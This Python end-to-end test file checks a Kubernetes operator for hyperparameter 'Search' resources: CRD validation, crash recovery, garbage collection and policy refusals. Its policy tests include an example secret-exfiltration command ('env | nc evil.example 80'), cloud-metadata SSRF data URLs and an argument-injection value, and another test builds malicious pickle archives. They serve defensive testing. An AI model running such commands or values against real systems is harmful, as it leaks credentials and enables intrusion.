"""The Search custom resource and the operator, on the real control plane: the API server validates Searches
against the generated CRD, the operator runs several at once (killed -9 meanwhile), follows spec edits, and a
deleted Search's Jobs are garbage-collected while its records stay."""

from __future__ import annotations

import json
import random
import time
from pathlib import Path

import pytest
import yaml
from support.cli import run_cli
from support.clusterkit import CREDS, finished_status, trial_env
from support.figures import record_figure, search_figure
from support.paths import ROOT
from support.realkube import JobRecorder, PodStarts, wait_for

pytestmark = pytest.mark.e2e

CRD = ROOT / "charts" / "crds" / "searches.cifar-hpo.io.yaml"


@pytest.fixture(scope="session")
def crd(kube):
    kube.kubectl("apply", "--server-side", "--force-conflicts", "-f", str(CRD))
    kube.kubectl("wait", "--for=condition=Established", "crd/searches.cifar-hpo.io", "--timeout=120s")
    return kube


@pytest.fixture
def work(release):
    """The release's shared folder: the trial pods of its namespace see it at /cache."""
    return release.share()


def _search(name: str, max_trials: int, parallelism: int = 2, work: Path | None = None, gate: bool = False,
            **spec) -> dict:
    files = {}
    if work is not None:
        files["FAKE_TRIAL_RUNLOG"] = str(work / f"{name}.runlog")
        if gate:
            (work / f"gate-{name}").mkdir(exist_ok=True)
            files["FAKE_TRIAL_GATE"] = str(work / f"gate-{name}")
    env = ["env", *trial_env(files, work)]
    return {"apiVersion": "cifar-hpo.io/v1alpha1", "kind": "Search", "metadata": {"name": name},
            "spec": {"search": {"maxTrials": max_trials, "parallelism": parallelism, "seed": 1, "maxFailedTrials": 3},
                     "tpe": {"nStartupJobs": 3, "nEICandidates": 4},
                     "trial": {"command": [*env, "python", "tests/objective.py"], "epochs": 2}, **spec}}


def _labelled(doc: dict, extra: dict) -> dict:
    doc["metadata"].setdefault("labels", {}).update(extra["metadata"]["labels"])
    return doc


def _apply(kube, ns: str, doc: dict, path: Path, check: bool = True):
    path.write_text(yaml.safe_dump(doc))
    return kube.run(str(ROOT / ".tools" / "bin" / "kubectl"), "apply", "-n", ns, "-f", str(path), check=check)


def _status(kube, ns: str, name: str) -> dict:
    out = kube.kubectl("-n", ns, "get", "search", name, "-o", "json", check=False)
    return (json.loads(out).get("status") or {}) if out.strip() else {}


def _operator_config(release, policy=None, **kube_settings):
    """The operator of these tests lets Searches run the stand-in trial with their own env (a custom command);
    everything else is the default policy."""
    return release.config_file(kube={"resyncSeconds": 5, **kube_settings}, controller={"reportSeconds": 3600},
                               policy={"allowCustomCommand": True, **(policy or {})})


def test_an_invalid_search_is_refused_by_the_api_server_naming_the_field(crd, kube_ns, tmp_path):
    bad = _search("bad", max_trials=0)
    p = _apply(crd, kube_ns, bad, tmp_path / "bad.yaml", check=False)
    assert p.returncode != 0 and "spec.search.maxTrials" in p.stderr, p.stderr
    refused = p.stderr.strip()
    bad = _search("bad", 3, tpe={"gamma": 1.5})
    p = _apply(crd, kube_ns, bad, tmp_path / "bad.yaml", check=False)
    assert p.returncode != 0 and "spec.tpe.gamma" in p.stderr, p.stderr
    bad = _search("bad", 3)
    bad["spec"]["trial"].update(data="synthetic:300", dataSha256="a" * 64)  # a CEL rule: no checksum for generated data
    p = _apply(crd, kube_ns, bad, tmp_path / "bad.yaml", check=False)
    assert p.returncode != 0 and "dataSha256" in p.stderr and "synthetic" in p.stderr, p.stderr
    for trial, field in (({"activeDeadlineSeconds": 604801}, "activeDeadlineSeconds"), ({"gpuCount": 17}, "gpuCount")):
        bad = _search("bad", 3)
        bad["spec"]["trial"].update(trial)
        p = _apply(crd, kube_ns, bad, tmp_path / "bad.yaml", check=False)
        assert p.returncode != 0 and f"spec.trial.{field}" in p.stderr, p.stderr
    p = _apply(crd, kube_ns, _search("bad", 3, parallelism=65), tmp_path / "bad.yaml", check=False)
    assert p.returncode != 0 and "spec.search.parallelism" in p.stderr, p.stderr
    for section, values in (("tpe", {"nEICandidates": 100000}), ("earlyStopping", {"checkSeconds": 1e-6})):
        p = _apply(crd, kube_ns, _search("bad", 3, **{section: values}), tmp_path / "bad.yaml", check=False)
        assert p.returncode != 0 and f"spec.{section}.{next(iter(values))}" in p.stderr, p.stderr
    unbounded = _search("unbounded", 3)
    unbounded["spec"]["trial"]["activeDeadlineSeconds"] = None  # not nullable: the API server drops the null...
    _apply(crd, kube_ns, unbounded, tmp_path / "unbounded.yaml")
    stored = json.loads(crd.kubectl("-n", kube_ns, "get", "search", "unbounded", "-o", "json"))
    assert "activeDeadlineSeconds" not in stored["spec"]["trial"]
    from controller.settings.config import Settings
    from controller.settings.resource import settings_of

    assert settings_of(stored, Settings()).kube.active_deadline_seconds == 86400  # ...and the operator's applies
    crd.kubectl("-n", kube_ns, "delete", "search", "unbounded")
    bad = _search("bad", 3)
    bad["spec"]["search"]["maxTrails"] = 5  # a typo: unknown fields are refused, not dropped
    p = _apply(crd, kube_ns, bad, tmp_path / "bad.yaml", check=False)
    assert p.returncode != 0 and "maxTrails" in p.stderr, p.stderr
    assert not json.loads(crd.kubectl("-n", kube_ns, "get", "searches", "-o", "json"))["items"]
    record_figure("invalid Search refused by the API server", {"message": refused.split("bad.yaml\": ")[-1][:300]})


def test_three_searches_on_one_operator_killed_at_random_moments(crd, release, kube_ns, tmp_path, work):
    """Five kill -9s of one operator running three Searches. Trials wait at gates: before kill k, trials 0..k of each
    Search may end, so every kill comes after more trials have ended and while Searches still run (gamma's last
    trial is held to the end), on any machine; within that, each kill lands at a random moment."""
    budgets = {"alpha": 4, "beta": 5, "gamma": 6}
    cfg = _operator_config(release)
    log = tmp_path / "operator.log"
    rng = random.Random(7)
    kills, running_at_kill = 0, []
    state = lambda name: _status(crd, kube_ns, name).get("state")
    with JobRecorder(crd, kube_ns) as jobs, PodStarts(crd, kube_ns) as starts:
        for name, n in budgets.items():
            _apply(crd, kube_ns, _search(name, n, work=work, gate=True), tmp_path / f"{name}.yaml")
        op = release.operator(cfg, log=log)
        done = lambda: sum(len([t for t in release.trials(name) if t["state"] == "ok"]) for name in budgets)
        for k in range(5):
            for name in budgets:
                (work / f"gate-{name}" / str(k)).touch()
            opened = sum(min(k + 1, n) for n in budgets.values())
            wait_for(f"{opened - 2} trials done before kill {k}", lambda t=opened - 2: done() >= t, proc=op)
            if k == 2:
                during = crd.kubectl("-n", kube_ns, "get", "searches")
            time.sleep(rng.uniform(0.0, 1.0))  # a random moment past that progress: mid-step, mid-launch, mid-write
            running_at_kill.append(sum(state(name) != "Succeeded" for name in budgets))
            assert running_at_kill[-1] > 0, "a kill with no Search running"
            op.kill()
            op.wait()
            kills += 1
            op = release.operator(cfg, log=log)
        for name in budgets:
            (work / f"gate-{name}" / "all").touch()
        for name in budgets:
            wait_for(f"Search {name} to succeed", lambda name=name: state(name) == "Succeeded", proc=op)
        get = crd.kubectl("-n", kube_ns, "get", "searches")
        # One more start, every Search ended: each end is told again (status, report) under its Event's name, which
        # the API server holds once, and the Search keeps its completion time.
        ended = {name: _status(crd, kube_ns, name)["completionTime"] for name in budgets}
        finished = lambda: sorted(e["message"].split(":")[0] for e in crd.events(kube_ns)
                                  if e["reason"] == "SearchFinished")
        everyone = [f"search {name}" for name in sorted(budgets)]
        wait_for("each Search's SearchFinished Event (recorded after its status)", lambda: finished() == everyone,
                 proc=op)
        op.terminate()
        assert op.wait(60) == 0
        before = log.stat().st_size
        op = release.operator(cfg, log=log)
        wait_for("the restarted operator to tell the three ends again",
                 lambda: log.read_bytes()[before:].count(b"Event SearchFinished on Search") == 3, proc=op)
        op.terminate()
        assert op.wait(60) == 0
    assert {name: _status(crd, kube_ns, name)["completionTime"] for name in budgets} == ended
    assert finished() == everyone  # one each, through five kills -9 and a restart
    per_search = {}
    for name, n in budgets.items():
        trials = release.trials(name)
        status = _status(crd, kube_ns, name)
        assert [t["tid"] for t in trials] == list(range(n)) and {t["state"] for t in trials} == {"ok"}, trials
        assert status["counts"]["ok"] == n and status["budgetLeft"] == 0 and status["best"]["objective"] > 0
        assert status["records"] == f"{release.store}/{name}" and status["bestModel"].endswith("model.keras")
        assert starts.starts(name) == dict.fromkeys(range(n), 1), (name, starts.starts(name))  # the kubelet's count
        per_search[name] = search_figure(trials, n, starts.starts(name),
                                         jobs={"created": sum(j.startswith(f"{name}-t") for j in jobs.created),
                                               "twice": [j for j in jobs.twice() if j.startswith(f"{name}-t")]})
    assert sorted(jobs.created) == sorted(f"{name}-t{i}" for name, n in budgets.items() for i in range(n))
    assert jobs.twice() == []
    assert all(name in get and "Succeeded" in get for name in budgets), get
    record_figure("three Searches, one operator killed -9 five times", {
        "kills": kills, "searches_running_at_each_kill": running_at_kill, "searches": per_search,
        "jobs": jobs.figure(), "kubectl get searches (during)": during, "kubectl get searches (after)": get})


def test_deleting_a_search_stops_its_jobs_keeps_its_records_and_spares_the_others(crd, release, kube_ns, tmp_path,
                                                                                   work):
    op = release.operator(_operator_config(release), log=tmp_path / "operator.log")
    try:
        _apply(crd, kube_ns, _search("doomed", 6, parallelism=2, work=work, gate=True), tmp_path / "d.yaml")
        _apply(crd, kube_ns, _search("other", 3, work=work), tmp_path / "o.yaml")
        (work / "gate-doomed" / "0").touch()  # trial 0 may end; the others wait at their gate
        wait_for("doomed's trial 0 recorded and two Jobs running", lambda: [t["state"] for t in release.trials(
            "doomed")][:1] == ["ok"] and len(crd.jobs(kube_ns, "cifar-hpo.io/search=doomed")) >= 2, proc=op)
        owners = {r["kind"] for j in crd.jobs(kube_ns, "cifar-hpo.io/search=doomed")
                  for r in j["metadata"]["ownerReferences"]}
        assert owners == {"Search"}
        crd.kubectl("-n", kube_ns, "delete", "search", "doomed", "--wait=false")
        wait_for("the garbage collector to delete doomed's Jobs",
                 lambda: not crd.jobs(kube_ns, "cifar-hpo.io/search=doomed"), proc=op)
        wait_for("the other search to succeed", lambda: _status(crd, kube_ns, "other").get("state") == "Succeeded",
                 proc=op)
        kept = release.trials("doomed")
        assert kept[0]["tid"] == 0 and kept[0]["state"] == "ok"  # its records stay in the bucket
        assert [t["state"] for t in release.trials("other")] == ["ok"] * 3
    finally:
        op.terminate()
        op.wait(60)


def test_a_failing_search_stalls_no_other(crd, release, kube_ns, tmp_path, work):
    """One Search whose dataset cannot be read (its staging retries, then fails) beside one that runs: the second
    finishes, the first says why it failed, on its own status and in a Warning Event."""
    # Plain http and a loopback origin are this operator's own choice (the default policy refuses both).
    op = release.operator(_operator_config(release, {"dataSchemes": ["http", "https", "s3"],
                                                     "allowPrivateAddresses": True, "requireDataSha256": False}),
                          log=tmp_path / "operator.log")
    try:
        broken = _search("broken", 3, work=work)
        broken["spec"]["trial"]["data"] = "http://127.0.0.1:9/cifar-100-python.tar.gz"  # nothing listens there
        _apply(crd, kube_ns, broken, tmp_path / "b.yaml")
        _apply(crd, kube_ns, _search("healthy", 4, work=work), tmp_path / "h.yaml")
        wait_for("the healthy search to succeed", lambda: _status(crd, kube_ns, "healthy").get("state")
                 == "Succeeded", proc=op)
        wait_for("the broken search to fail", lambda: _status(crd, kube_ns, "broken").get("state") == "Failed",
                 proc=op)
        assert "cannot be read" in _status(crd, kube_ns, "broken")["reason"]
        events = crd.kubectl("-n", kube_ns, "get", "events", "--field-selector", "involvedObject.name=broken")
        assert "SearchFailed" in events
        assert not crd.jobs(kube_ns, "cifar-hpo.io/search=broken")  # nothing launched for it
    finally:
        op.terminate()
        op.wait(60)


def test_all_namespaces_and_a_folder_belongs_to_one_search(crd, release, kube_ns, tmp_path, work):
    """--all-namespaces: one operator runs Searches of two namespaces, each Search's Jobs in its own; a Search
    elsewhere that names a folder already in use is refused (the store root is shared)."""
    other = crd.namespace()
    op = None
    try:
        # What a trial Job of the chart needs in a namespace: its ServiceAccount and the S3 Secret.
        crd.core.create_namespaced_service_account(other, {"metadata": {"name": f"{release.full}-trial"},
                                                           "automountServiceAccountToken": False})
        crd.secret(other, f"{release.full}-s3", CREDS)
        crd.shared_dir(other, work)  # the trials' /cache claim, to the same folder
        # A cluster-wide operator needs a ClusterRole (the chart's Role is namespaced): the admin's kubeconfig here.
        # Its own label: a cluster-wide operator must not take the Searches of the tests running beside this one.
        label = f"cifar-hpo.io/test={kube_ns}"
        op = release.operator(_operator_config(release), "--all-namespaces", "--selector", label,
                              kubeconfig=crd.kubeconfig, log=tmp_path / "operator.log")
        mine = {"metadata": {"labels": {"cifar-hpo.io/test": kube_ns}}}
        _apply(crd, kube_ns, _labelled(_search("here", 2, work=work), mine), tmp_path / "here.yaml")
        _apply(crd, other, _labelled(_search("there", 2, work=work), mine), tmp_path / "there.yaml")
        for ns, name in ((kube_ns, "here"), (other, "there")):
            wait_for(f"{ns}/{name} to succeed", lambda ns=ns, name=name: _status(crd, ns, name).get("state")
                     == "Succeeded", proc=op)
        assert {j["metadata"]["name"] for j in crd.jobs(other)} == {"there-t0", "there-t1"}
        assert {j["metadata"]["name"] for j in crd.jobs(kube_ns)} == {"here-t0", "here-t1"}
        dup = _labelled(_search("dup", 2, work=work), mine)
        dup["spec"]["search"]["name"] = "here"
        _apply(crd, other, dup, tmp_path / "dup.yaml")
        wait_for("the second claim on folder 'here' to be refused", lambda: any(
            c["type"] == "SpecAccepted" and c["reason"] == "FolderInUse" and f"{kube_ns}/here" in c["message"]
            for c in _status(crd, other, "dup").get("conditions", [])), proc=op)
        assert _status(crd, other, "dup")["state"] == "Failed" and not crd.jobs(other, "cifar-hpo.io/search=here")
        assert [t["state"] for t in release.trials("here")] == ["ok", "ok"]  # its records untouched
        op.terminate()
        assert op.wait(60) == 0
    finally:
        if op is not None and op.poll() is None:
            op.kill()
        crd.delete_namespace(other)


def test_budget_edits_on_a_running_search_are_followed(crd, release, kube_ns, tmp_path, work):
    store = release.store
    op = release.operator(_operator_config(release), log=tmp_path / "operator.log")
    gate = work / "gate-edited"
    try:
        _apply(crd, kube_ns, _search("edited", 6, parallelism=3, work=work, gate=True), tmp_path / "e.yaml")
        wait_for("three trials in flight", lambda: len(crd.jobs(kube_ns, "cifar-hpo.io/search=edited")) == 3, proc=op)
        crd.kubectl("-n", kube_ns, "patch", "search", "edited", "--type", "merge", "-p",
                    '{"spec": {"search": {"parallelism": 1}}}')
        wait_for("the operator to observe the edit", lambda: _status(crd, kube_ns, "edited").get(
            "observedGeneration") == 2, proc=op)
        for tid in range(3):
            (gate / str(tid)).touch()
        # A batch's proposals are all written before its first Job: with parallelism 3 the next batch would be
        # trials 3, 4 and 5; with 1 it is trial 3 alone.
        wait_for("trial 3's Job", lambda: any(j["metadata"]["name"] == "edited-t3"
                                              for j in crd.jobs(kube_ns, "cifar-hpo.io/search=edited")), proc=op)
        keys = [t["tid"] for t in finished_status(store, "edited")["trials"]]
        assert max(keys) == 3, keys
        (gate / "all").touch()
        wait_for("the search to succeed with 6", lambda: _status(crd, kube_ns, "edited").get("state") == "Succeeded"
                 and _status(crd, kube_ns, "edited")["counts"]["ok"] == 6, proc=op)
        crd.kubectl("-n", kube_ns, "patch", "search", "edited", "--type", "merge", "-p",
                    '{"spec": {"search": {"maxTrials": 8}}}')
        wait_for("the extended search to succeed with 8", lambda: _status(crd, kube_ns, "edited").get("counts", {})
                 .get("ok") == 8 and _status(crd, kube_ns, "edited").get("state") == "Succeeded", proc=op)
        crd.kubectl("-n", kube_ns, "patch", "search", "edited", "--type", "merge", "-p",
                    '{"spec": {"search": {"seed": 99}}}')
        wait_for("the seed change to be refused", lambda: any(
            c["type"] == "SpecAccepted" and c["status"] == "False" and "spec.search.seed" in c["message"]
            for c in _status(crd, kube_ns, "edited").get("conditions", [])), proc=op)
        events = crd.kubectl("-n", kube_ns, "get", "events", "--field-selector", "involvedObject.name=edited")
        assert "SpecRefused" in events
        described = crd.kubectl("-n", kube_ns, "describe", "search", "edited")
        assert "Succeeded" in described and "SpecAccepted" in described
        ran = sorted(int(t) for t in (work / "edited.runlog").read_text().split())
        assert ran == list(range(8))
    finally:
        op.terminate()
        op.wait(60)
    record_figure("kubectl describe search after edits", {"describe": described[-1500:]})


def _conditions(kube, ns: str, name: str) -> dict:
    return {c["type"]: c for c in _status(kube, ns, name).get("conditions") or []}


def test_searches_beyond_the_operators_policy_are_refused_with_no_job(crd, release, kube_ns, tmp_path, work):
    """The chart's default policy: the trainer image only, its own command, 1 GPU, a 2-day deadline, https or
    the store's bucket as data. Each Search below asks for one thing more and is refused before any Job exists
    (SpecAccepted False, PolicyViolation, a Warning Event, state Failed with the field and the rule), while a Search
    within the policy beside them finishes, and one of them edited to fit the policy runs."""
    op = release.operator(release.config_file(kube={"resyncSeconds": 5}, controller={"reportSeconds": 3600}),
                          log=tmp_path / "operator.log")
    evil = {
        "foreign-image": ({"image": "docker.io/library/busybox:latest"}, "spec.trial.image"),
        "own-command": ({"command": ["sh", "-c", "env | nc evil.example 80"]}, "spec.trial.command"),
        "two-gpus": ({"gpuCount": 2}, "spec.trial.gpuCount"),
        "long-deadline": ({"activeDeadlineSeconds": 604800}, "spec.trial.activeDeadlineSeconds"),
        "dev-zero": ({"data": "/dev/zero", "dataSha256": "a" * 64}, "spec.trial.data"),
        "metadata": ({"data": "https://169.254.169.254/latest/meta-data/c.tar.gz", "dataSha256": "a" * 64},
                     "spec.trial.data"),
        "mapped-metadata": ({"data": "https://[::ffff:169.254.169.254]/c.tar.gz", "dataSha256": "a" * 64},
                            "spec.trial.data"),
        "data-override": ({"extraArgs": ["--data=http://169.254.169.254/latest/"]}, "spec.trial.extraArgs"),
        "others-records": ({"data": f"s3://{release.store.split('/')[2]}/searches/x/trials/000000/model.keras",
                            "dataSha256": "a" * 64}, "spec.trial.data"),
        "huge-memory": ({"requests": {"memory": "2Ti"}}, "spec.trial.requests.memory"),
        "long-grace": ({"terminationGraceSeconds": 3600}, "spec.trial.terminationGraceSeconds"),
    }
    try:
        for name, (trial, _) in evil.items():
            doc = _search(name, 2)
            doc["spec"]["trial"] = trial  # the operator's own command and image, but for this one thing
            _apply(crd, kube_ns, doc, tmp_path / f"{name}.yaml")
        within = _search("within", 2)
        within["spec"]["trial"] = {"epochs": 2}
        _apply(crd, kube_ns, within, tmp_path / "within.yaml")
        wait_for("the search within the policy to succeed",
                 lambda: _status(crd, kube_ns, "within").get("state") == "Succeeded", proc=op)
        wait_for("every search beyond it to fail",
                 lambda: all(_status(crd, kube_ns, n).get("state") == "Failed" for n in evil), proc=op)
        reasons = {}
        for name, (_, field) in evil.items():
            reason = _status(crd, kube_ns, name)["reason"]
            assert reason.startswith(field), (name, reason)
            accepted = _conditions(crd, kube_ns, name)["SpecAccepted"]
            assert accepted["status"] == "False" and accepted["reason"] == "PolicyViolation", accepted
            assert not crd.jobs(kube_ns, f"cifar-hpo.io/search={name}"), name
            events = crd.kubectl("-n", kube_ns, "get", "events", "--field-selector", f"involvedObject.name={name}")
            assert "SpecRefused" in events and "Warning" in events, events
            reasons[name] = reason
        assert "link-local" in reasons["metadata"] and "path sources are not allowed" in reasons["dev-zero"]
        assert "link-local" in reasons["mapped-metadata"] and "policy.dataS3Prefix" in reasons["others-records"]
        assert _conditions(crd, kube_ns, "within")["TrialAccessScoped"]["status"] == "True"
        # Brought within the policy by an edit, a refused Search runs, with no restart of the operator.
        fixed = _search("two-gpus", 2)
        fixed["spec"]["trial"] = {"gpuCount": 1, "epochs": 2}
        _apply(crd, kube_ns, fixed, tmp_path / "two-gpus.yaml")
        wait_for("the edited search to succeed",
                 lambda: _status(crd, kube_ns, "two-gpus").get("state") == "Succeeded", proc=op)
        accepted = _conditions(crd, kube_ns, "two-gpus")["SpecAccepted"]
        assert accepted["status"] == "True" and accepted["observedGeneration"] == 2, accepted
        assert op.poll() is None
        record_figure("Searches refused by the operator's policy", reasons)
    finally:
        op.terminate()
        op.wait(60)


def test_hostile_searches_fail_alone_beside_a_search_that_finishes(crd, release, kube_ns, tmp_path, work):
    """What a Search author with the default policy can make the operator itself do, each a Search beside a normal
    one: archives that crashed, froze or filled the operator (a forged numpy dtype: a segfault; a self-sharing dict
    key: hashing for ever under the GIL; 50 MB of valid opcodes: minutes of CPU, stopped by the staging child's
    limit), a space whose proposals would take minutes and gigabytes, and a Search that drops the operator's
    placement and memory limit. Each hostile one fails with its reason (or runs within the operator's bounds);
    the normal one finishes; the operator process is never replaced."""
    import hashlib

    import boto3
    from support.hostile import archive_of, cpu_pickle, crasher, shared_tuple_pickle

    bucket = release.store.split("/")[2]
    archives = {"forged": crasher("forged-dtype.tar.gz"),
                "hash-bomb": archive_of({"train": shared_tuple_pickle(60), "test": shared_tuple_pickle(60)}),
                "cpu-burner": archive_of({"train": cpu_pickle(25_000_000), "test": cpu_pickle(1)})}
    expected = {"forged": "refusing to unpickle dtype 'V8'",
                "hash-bomb": "refusing to unpickle a dict key or set member of more than 256 parts",
                "cpu-burner": "reading the archive used more than 2 s of CPU and was stopped (policy.stagingSeconds)",
                "choice-bomb": "spec.search.space.a.options: 5000 options; at most 1000"}
    op = release.operator(_operator_config(release, policy={"stagingSeconds": 2}), log=tmp_path / "operator.log")
    pid = op.pid
    try:
        for name, payload in archives.items():
            boto3.client("s3").put_object(Bucket=bucket, Key=f"uploads/{name}.tar.gz", Body=payload)
            evil = _search(name, 3, work=work)
            evil["spec"]["trial"].update(data=f"s3://{bucket}/uploads/{name}.tar.gz",
                                         dataSha256=hashlib.sha256(payload).hexdigest())
            _apply(crd, kube_ns, evil, tmp_path / f"{name}.yaml")
        bomb = _search("choice-bomb", 3, work=work)
        bomb["spec"]["search"]["space"] = {"a": {"dist": "choice", "options": list(range(5000))}}
        _apply(crd, kube_ns, bomb, tmp_path / "bomb.yaml")
        unplaced = _search("unplaced", 2, work=work)
        unplaced["spec"]["trial"].update(nodeSelector={}, affinity={}, limits={}, requests={}, tolerations=[])
        _apply(crd, kube_ns, unplaced, tmp_path / "unplaced.yaml")
        _apply(crd, kube_ns, _search("bystander", 3, work=work), tmp_path / "b.yaml")
        for name in expected:
            wait_for(f"{name} to fail", lambda name=name: _status(crd, kube_ns, name).get("state") == "Failed",
                     proc=op)
            reason = _status(crd, kube_ns, name)["reason"]
            assert expected[name] in reason, (name, reason)
            assert not crd.jobs(kube_ns, f"cifar-hpo.io/search={name}")
        for name in ("bystander", "unplaced"):
            wait_for(f"{name} to succeed", lambda name=name: _status(crd, kube_ns, name).get("state") == "Succeeded",
                     proc=op)
        for job in crd.jobs(kube_ns, "cifar-hpo.io/search=unplaced"):  # the operator's limit kept, not dropped
            resources = job["spec"]["template"]["spec"]["containers"][0]["resources"]
            assert resources["limits"]["memory"] == "512Mi" and resources["requests"]["cpu"] == "50m", resources
        assert op.poll() is None and op.pid == pid  # one operator process all along
        assert "Traceback" not in (tmp_path / "operator.log").read_text()
        record_figure("hostile Searches beside a normal one", {n: _status(crd, kube_ns, n)["reason"][:160]
                                                               for n in expected})
    finally:
        op.terminate()
        op.wait(60)


def test_a_search_cannot_take_another_searchs_folder_at_an_operator_restart(crd, release, kube_ns, tmp_path, work):
    """The review: a Search naming another's folder, created while the operator was down and sorting first, was
    heard of first at the next start and adopted the other's records (the victim failed FolderInUse). Ownership is
    the owner's namespace, name and UID in the store, whatever the order."""
    import boto3

    victim = _search("zz-victim", 2, work=work)
    op = release.operator(_operator_config(release), log=tmp_path / "operator.log")
    try:
        _apply(crd, kube_ns, victim, tmp_path / "v.yaml")
        wait_for("the victim to succeed", lambda: _status(crd, kube_ns, "zz-victim").get("state") == "Succeeded",
                 proc=op)
    finally:
        op.terminate()
        op.wait(60)
    taker = _search("aa-taker", 4, work=work)
    taker["spec"]["search"]["name"] = "zz-victim"
    _apply(crd, kube_ns, taker, tmp_path / "t.yaml")
    op = release.operator(_operator_config(release), log=tmp_path / "operator-2.log")
    try:
        wait_for("the taker to be refused", lambda: _status(crd, kube_ns, "aa-taker").get("state") == "Failed",
                 proc=op)
        accepted = _conditions(crd, kube_ns, "aa-taker")["SpecAccepted"]
        assert accepted["reason"] == "FolderInUse" and f"{kube_ns}/zz-victim" in accepted["message"], accepted
        assert _status(crd, kube_ns, "zz-victim")["state"] == "Succeeded"
        assert _conditions(crd, kube_ns, "zz-victim")["SpecAccepted"]["reason"] != "FolderInUse"
        assert [t["state"] for t in release.trials("zz-victim")] == ["ok", "ok"]
        assert not crd.jobs(kube_ns, "cifar-hpo.io/search=aa-taker")
        bucket, prefix = release.store.split("/")[2], "/".join(release.store.split("/")[3:])
        owner = json.loads(boto3.client("s3").get_object(Bucket=bucket, Key=f"{prefix}/zz-victim/owner.json")
                           ["Body"].read())
        uid = json.loads(crd.kubectl("-n", kube_ns, "get", "search", "zz-victim", "-o", "json"))["metadata"]["uid"]
        assert owner["uid"] == uid and owner["name"] == "zz-victim", owner
    finally:
        op.terminate()
        op.wait(60)


def test_a_missing_bucket_shows_on_the_search_and_the_search_starts_once_it_exists(crd, release, kube_ns, tmp_path,
                                                                                   work):
    """The operator stays up (no CrashLoopBackOff with the reason in its log only): the Search says what is wrong
    (StoreReady=False, the WAITING column, a Warning Event) and goes on by itself once the bucket exists."""
    import uuid

    import boto3

    bucket = f"t-late-{uuid.uuid4().hex[:8]}"
    op = release.operator(release.config_file(kube={"resyncSeconds": 5}, controller={"reportSeconds": 3600},
                                              store={"uri": f"s3://{bucket}/searches"},
                                              policy={"allowCustomCommand": True}),
                          log=tmp_path / "operator.log")
    try:
        _apply(crd, kube_ns, _search("early", 2, work=work), tmp_path / "e.yaml")
        wait_for("the Search to say its store is missing",
                 lambda: _conditions(crd, kube_ns, "early").get("StoreReady", {}).get("status") == "False", proc=op)
        ready = _conditions(crd, kube_ns, "early")["StoreReady"]
        assert bucket in ready["message"] and "does not exist" in ready["message"], ready
        row = crd.kubectl("-n", kube_ns, "get", "search", "early")
        assert "store:" in row, row  # the WAITING column
        events = crd.kubectl("-n", kube_ns, "get", "events", "--field-selector", "involvedObject.name=early")
        assert "StoreUnavailable" in events, events
        assert op.poll() is None and not crd.jobs(kube_ns, "cifar-hpo.io/search=early")
        boto3.client("s3").create_bucket(Bucket=bucket)
        wait_for("the search to run once the bucket exists",
                 lambda: _status(crd, kube_ns, "early").get("state") == "Succeeded", proc=op)
        assert _conditions(crd, kube_ns, "early")["StoreReady"]["status"] == "True"
        record_figure("a missing bucket, shown on the Search", {"row": row, "message": ready["message"][:200]})
    finally:
        op.terminate()
        op.wait(60)


def test_a_folder_another_releases_search_started_is_refused_naming_it(crd, release, kube_ns, tmp_path, work):
    """Two releases sharing a bucket and prefix, each with its chart's default Search `cifar100`: the second is
    refused (FolderInUse, naming the first) instead of both writing one history. The first's record is planted as
    its operator wrote it."""
    import boto3

    from controller.settings.config import Settings
    from controller.settings.kube import KubeSettings

    bucket, prefix = release.store.split("/")[2], "/".join(release.store.split("/")[3:])
    theirs = Settings(kube=KubeSettings(namespace="team-a", job_prefix="shared"))
    record = {"schema_version": 1, "name": "shared", "seed": 1, "space": None, "settings": theirs.to_json()}
    boto3.client("s3").put_object(Bucket=bucket, Key=f"{prefix}/shared/search.json", Body=json.dumps(record))
    op = release.operator(_operator_config(release), log=tmp_path / "operator.log")
    try:
        _apply(crd, kube_ns, _search("shared", 2, work=work), tmp_path / "s.yaml")
        wait_for("the Search to be refused", lambda: _status(crd, kube_ns, "shared").get("state") == "Failed",
                 proc=op)
        reason = _status(crd, kube_ns, "shared")["reason"]
        assert "team-a/shared" in reason and "spec.search.name" in reason, reason
        assert _conditions(crd, kube_ns, "shared")["SpecAccepted"]["reason"] == "FolderInUse"
        assert not crd.jobs(kube_ns, "cifar-hpo.io/search=shared") and op.poll() is None
    finally:
        op.terminate()
        op.wait(60)


def test_a_search_of_the_digits_trainer_runs_with_its_own_image(crd, release, kube_ns, tmp_path):
    """The second trainer (examples/digits: scikit-learn, not Keras) as a Search on the operator: its own image,
    allowed by the operator's policy, no command (the image's entrypoint), no dataset; early stopping cuts the
    trials whose learning rate is far too small; `best --download` brings its model."""
    digits = next(r for r in crd.info["images"] if r.startswith("localhost/cifar-hpo-digits:"))
    # The operator's default trial command is the trainer's (Jobs then leave the image's ENTRYPOINT in charge), not
    # the stand-in these tests' operators usually run.
    cfg = release.config_file(kube={"resyncSeconds": 5}, controller={"reportSeconds": 3600},
                              trial={"command": ["python", "-m", "trainer"], "data": None},
                              policy={"images": [digits], "minCheckSeconds": 1})
    op = release.operator(cfg, log=tmp_path / "operator.log")
    try:
        doc = {"apiVersion": "cifar-hpo.io/v1alpha1", "kind": "Search", "metadata": {"name": "digits"}, "spec": {
            # Seed 3's random points: lr 0.01 for trials 0 and 1, 1e-4 for 2, 3 and 4, so that trials with two
            # good ended peers learn far too slowly (the median rule's case).
            "search": {"maxTrials": 8, "parallelism": 2, "seed": 3, "maxFailedTrials": 1, "space": {
                "hidden": {"dist": "quniform", "low": 16, "high": 128, "q": 16},
                "alpha": {"dist": "loguniform", "low": 1.0e-5, "high": 1.0e-2},
                "lr": {"dist": "choice", "options": [1.0e-4, 1.0e-2]},
                "batch": {"dist": "choice", "options": [32, 64]}}},
            "tpe": {"nStartupJobs": 8},
            "trial": {"image": digits, "data": "none", "epochs": 40},
            "earlyStopping": {"rule": "median", "startEpoch": 2, "minTrials": 2, "checkSeconds": 1}}}
        _apply(crd, kube_ns, doc, tmp_path / "digits.yaml")
        wait_for("the digits Search to end", lambda: _status(crd, kube_ns, "digits").get("state") in
                 ("Succeeded", "Failed"), proc=op, timeout=600)
        assert _status(crd, kube_ns, "digits")["state"] == "Succeeded", _status(crd, kube_ns, "digits")
    finally:
        op.terminate()
        op.wait(60)
    trials = release.trials("digits")
    states = {t["tid"]: t["state"] for t in trials}
    assert sorted(states) == list(range(8)) and set(states.values()) <= {"ok", "stopped"}, trials
    stopped = [t for t in trials if t["state"] == "stopped"]
    assert stopped and all(t["reason"].startswith("early-stopped: median rule") for t in stopped), trials
    best = max((t for t in trials if t["objective"] is not None), key=lambda t: t["objective"])
    assert best["objective"] > 0.9 and best["params"]["lr"] == 1.0e-2, best
